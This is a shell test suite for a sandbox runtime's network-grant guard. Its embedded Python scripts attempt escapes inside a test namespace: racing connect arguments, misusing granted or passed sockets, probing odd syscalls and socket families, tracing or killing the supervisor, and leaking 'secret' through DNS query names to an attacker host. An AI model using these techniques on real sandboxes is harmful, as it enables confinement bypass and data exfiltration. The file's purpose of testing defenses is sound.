# What a guarded command with network grants tries beyond them. "The host" is a network namespace of the test's; 203.0.113.5:9999 and
# 127.0.0.1:9999 there are granted to nobody, and nobody may come.

load ../bats/helpers

setup_file() {
	[ "$(id -u)" = 0 ] && command -v ip >/dev/null && [ -x /usr/bin/python3 ] || return 0
	unshare -n --kill-child sleep 600 3>&- 4>&- &
	export HOST=$!
	for _ in $(seq 100); do # until it is in its namespace
		[ "$(readlink /proc/self/ns/net)" != "$(readlink "/proc/$HOST/ns/net")" ] && break
		sleep 0.05
	done
	in_host ip link set lo up
	in_host ip addr add 203.0.113.5/32 dev lo
}

teardown_file() {
	[ -z "${HOST-}" ] || kill "$HOST"
}

in_host() { nsenter -t "$HOST" -n "$@"; }
guard() { in_host timeout --foreground -k 2 "$LIMIT" "$RUNTIME" --root "$T/root" guard "$@" 3>&- 4>&-; }

# Serves 5000 (granted), and tells who came to 9999 (not granted).
host() {
	wasirun_only
	need_root
	[ -n "${HOST-}" ] || skip "no ip or /usr/bin/python3"
	cat >"$T/host.py" <<-'E'
	import select, socket
	served = [socket.create_server(("203.0.113.5", 5000), backlog=4096)]
	canaries = [socket.create_server((a, 9999), backlog=64) for a in ("203.0.113.5", "127.0.0.1")]
	u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("203.0.113.5", 9999)); canaries.append(u)
	x = socket.socket(socket.AF_UNIX); x.bind("\0wasirun-canary"); x.listen(); canaries.append(x)
	kept = []
	print("ready", flush=True)
	while True:
	    for s in select.select(served + canaries, [], [])[0]:
	        if s in served:
	            kept.append(s.accept()[0])
	        else:
	            print("CAME", s.getsockname(), flush=True)
	            s.recv(100) if s is u else s.accept()
	E
	nsenter -t "$HOST" -n /usr/bin/python3 "$T/host.py" >"$T/came" 2>&1 </dev/null 3>&- 4>&- &
	AGENTS+=($!)
	eventually grep -q ready "$T/came"
}

# Nobody came, and nobody listens at the host's but the test.
unharmed() {
	same "$(cat "$T/came")" ready
	same "$(in_host ss -Htln | awk '{print $4}' | sort | tr '\n' ' ')" "127.0.0.1:9999 203.0.113.5:5000 203.0.113.5:9999 "
}

attack() {
	cat >"$T/attack.py"
	ok guard --read "$T/attack.py" --connect 203.0.113.5:5000 "$@" -- /usr/bin/python3 "$T/attack.py"
	unharmed
}

@test "escape: the address and the descriptor are changed while the call is judged" {
	host
	attack <<-'E'
	import ctypes, os, socket, struct, threading, time
	libc = ctypes.CDLL(None)
	address = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack("!H", 5000) + socket.inet_aton("203.0.113.5") + bytes(8))
	granted = socket.create_connection(("203.0.113.5", 5000))
	plain, number = socket.socket(), socket.socket()
	over = False
	def port():
	    while not over:
	        address[2:4] = struct.pack("!H", 9999); address[2:4] = struct.pack("!H", 5000)
	def family():
	    while not over:
	        address[0:2] = struct.pack("=H", 0); address[0:2] = struct.pack("=H", 2)
	def descriptor():
	    while not over:
	        libc.dup3(plain.fileno(), number.fileno(), 0o2000000); libc.dup3(granted.fileno(), number.fileno(), 0o2000000)
	threads = [threading.Thread(target=f, daemon=True) for f in (port, family, descriptor)]
	[t.start() for t in threads]
	end, tries = time.time() + 3, 0
	while time.time() < end:
	    fresh = socket.socket()
	    for fd in (number.fileno(), fresh.fileno()):
	        libc.connect(fd, address, 16)
	    libc.bind(number.fileno(), address, 16)
	    fresh.close(); tries += 1
	over = True
	[t.join() for t in threads]
	print("tries", tries > 20)
	E
	has "tries True"
}

@test "escape: a host socket in one's hands is good for what it was made for" {
	host
	attack --listen 203.0.113.5:5001 --connect 203.0.113.5:5004 <<-'E'
	import ctypes, os, select, socket, struct
	libc = ctypes.CDLL(None, use_errno=True)
	def tries(what, f):
	    try:
	        f(); print("WENT", what)
	    except OSError:
	        pass
	there, away = ("203.0.113.5", 5000), ("203.0.113.5", 9999)
	s = socket.create_connection(there)
	tries("connected again", lambda: s.connect(away))
	nothing = struct.pack("=H14x", 0)
	print(libc.connect(s.fileno(), nothing, 16))                  # AF_UNSPEC
	tries("after AF_UNSPEC", lambda: s.connect(away))
	tries("listen", lambda: s.listen())
	tries("bind", lambda: s.bind(("203.0.113.5", 5002)))
	failed = socket.socket(); failed.setblocking(False)
	tries("refused", lambda: failed.connect(("203.0.113.5", 5004))) # granted, and nobody is there
	select.select([], [failed], [], 2)
	tries("listen after failure", lambda: failed.listen())
	l = socket.socket(); l.bind(("203.0.113.5", 5001)); l.listen()
	tries("listener connects", lambda: l.connect(away))
	l.shutdown(socket.SHUT_RDWR)
	tries("listener connects after shutdown", lambda: l.connect(away))
	tries("listens again elsewhere", lambda: l.bind(("203.0.113.5", 5002)))
	tries("sendto with an address", lambda: socket.socket().sendto(b"x", 0x20000000, away))
	tries("fast open", lambda: socket.socket().setsockopt(6, 30, 1))
	u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	tries("udp", lambda: u.sendto(b"x", away))
	tries("udp connected", lambda: u.connect(away))
	for family, kind, proto in [(17, 3, 0), (2, 3, 1), (38, 5, 0), (40, 1, 0), (2, 1, 262), (29, 3, 1), (44, 1, 0)]:
	    tries((family, kind, proto), lambda: socket.socket(family, kind, proto))
	tries("the host's abstract socket", lambda: socket.socket(socket.AF_UNIX).connect("\0wasirun-canary"))
	for nr in (425, 426, 427):                                     # io_uring
	    assert libc.syscall(nr, 8, 0, 0, 0, 0) == -1
	if os.fork() == 0:
	    libc.syscall(0x40000000 + 42, s.fileno(), nothing, 16)      # x32: refused, or the end of who tries
	    tries("after x32", lambda: s.connect(away))
	    os._exit(0)
	os.wait()
	E
	lacks WENT
}

@test "escape: host sockets that pass between the command and exec's" {
	host
	mkdir -m 777 "$T/shared"
	cat >"$T/give.py" <<-'E'
	import array, socket, sys, time
	l = socket.socket(socket.AF_UNIX); l.bind(sys.argv[1] + "/s"); l.listen()
	c = l.accept()[0]
	s = socket.create_connection(("203.0.113.5", 5000))
	c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
	time.sleep(30)
	E
	cat >"$T/take.py" <<-'E'
	import array, ctypes, socket, struct, sys
	c = socket.socket(socket.AF_UNIX); c.connect(sys.argv[1] + "/s")
	_, extra, _, _ = c.recvmsg(1, 100)
	fd = array.array("i", extra[0][2])[0]
	libc = ctypes.CDLL(None)
	libc.connect(fd, struct.pack("=H14x", 0), 16)
	s = socket.socket(fileno=fd)
	for f in (lambda: s.connect(("203.0.113.5", 9999)), lambda: s.bind(("203.0.113.5", 5003)), lambda: s.listen()):
	    try:
	        f(); print("WENT")
	    except OSError as e:
	        print("refused")
	E
	for supervisor in alive gone; do
		rm -f "$T/shared/s"
		nsenter -t "$HOST" -n "$RUNTIME" --root "$T/root" guard --write "$T/shared" --read "$T/give.py" --read "$T/take.py" \
			--connect 203.0.113.5:5000 -- /usr/bin/python3 "$T/give.py" "$T/shared" >"$T/log" 2>&1 </dev/null 3>&- 4>&- &
		AGENTS+=($!)
		eventually test -S "$T/shared/s"
		id=$(rt list -q)
		if [ $supervisor = gone ]; then
			# the command's own connection is made at accept, before the supervisor ends
			sed -i 's/^libc = .*/&; input()/' "$T/take.py"
			(sleep 1; kill -KILL "$(supervisor_of)"; echo) | in_host "$RUNTIME" --root "$T/root" exec "$id" /usr/bin/python3 "$T/take.py" "$T/shared" >"$T/out" 2>&1 3>&- 4>&-
			run cat "$T/out"
		else
			run in_host timeout "$LIMIT" "$RUNTIME" --root "$T/root" exec "$id" /usr/bin/python3 "$T/take.py" "$T/shared" 3>&- 4>&-
		fi
		lacks WENT
		same "$(grep -c '^refused' <<<"$output")" 3
		kill "${AGENTS[-1]}"
		gone() { [ -z "$(rt list -q)" ]; }
		eventually gone
	done
	unharmed
}
supervisor_of() {
	local p
	for p in $(pgrep -x wasirun-network); do
		[ "$(readlink "/proc/$p/ns/net")" != "$(readlink "/proc/$HOST/ns/net")" ] || echo "$p"
	done
}

@test "escape: neither half of the supervisor can be seen, traced, or made to do more" {
	host
	attack <<-'E'
	import ctypes, os, socket
	libc = ctypes.CDLL(None, use_errno=True)
	names = []
	for p in filter(str.isdigit, os.listdir("/proc")):
	    names.append(open("/proc/%s/comm" % p).read().strip())
	print("network" in " ".join(names))
	for pid in range(2, 64):
	    for nr, args in ((101, (16, pid, 0, 0)), (310, (pid, 0, 0, 0, 0, 0)), (434, (pid, 0)),):
	        fd = libc.syscall(nr, *args)
	        if nr == 434 and fd >= 0 and libc.syscall(438, fd, 0, 0) >= 0:
	            print("WENT getfd", pid)
	        elif nr == 101 and fd == 0:
	            print("WENT traced", pid)
	import signal
	for pid in range(2, 64):
	    try:
	        os.kill(pid, signal.SIGKILL)
	    except OSError:
	        pass
	for address in (("203.0.113.5", 9999), ("127.0.0.1", 9999)):
	    try:
	        socket.create_connection(address); print("WENT", address)
	    except OSError:
	        pass
	socket.create_connection(("203.0.113.5", 5000)); print("still granted")
	E
	lacks WENT
	line False "still granted"
}

@test "escape: names carry nothing out, and answer nothing that was not granted" {
	host
	cat >"$T/dns.py" <<-'E'
	import socket
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.53", 53)); print("ready", flush=True)
	while True:
	    q, who = s.recvfrom(4096); print("ASKED", q[12:], flush=True)
	    end = q.index(b"\0", 12)
	    s.sendto(q[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + q[12:end + 5] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton("203.0.113.5"), who)
	E
	nsenter -t "$HOST" -n /usr/bin/python3 "$T/dns.py" >"$T/asked" 2>&1 </dev/null 3>&- 4>&- &
	AGENTS+=($!)
	echo "nameserver 127.0.0.53" >"$T/resolv.conf"
	cat >"$T/attack.py" <<-'E'
	import socket, struct
	def ask(name, kind=1, flags=0x100, tcp=False, extra=b"", count=1):
	    q = struct.pack("!6H", 7, flags, count, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" + struct.pack("!2H", kind, 1) + extra
	    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(1)
	    s.connect(("127.0.0.1", 53))
	    s.send(struct.pack("!H", len(q)) + q if tcp else q)
	    try:
	        a = s.recv(600); return a[5 if tcp else 3] & 15
	    except OSError:
	        return "silent"
	for name in (b"secret.db.example.test", b"secret.attacker.test", b"db.example.test\0.attacker.test", b"db.example.testx", b"example.test", b"xdb.example.test"):
	    print(name, ask(name), ask(name, tcp=True), ask(name, 16))
	print(ask(b"db.example.test", count=2, extra=b"\6secret\4test\0\0\1\0\1"))
	print("granted", ask(b"DB.example.test"), ask(b"db.example.test", tcp=True))
	try:
	    socket.create_connection(("203.0.113.5", 9999)); print("WENT")
	except OSError:
	    pass
	E
	ok in_host unshare -m sh -c "mount --bind $T/resolv.conf /etc/resolv.conf && exec timeout $LIMIT $RUNTIME --root $T/root guard --read $T/attack.py \
		--connect db.example.test:5000 -- /usr/bin/python3 $T/attack.py" 3>&- 4>&-
	lacks WENT
	line "granted 0 0"
	! grep -E 'secret|attacker|testx|xdb' "$T/asked" || return 1
	unharmed
}
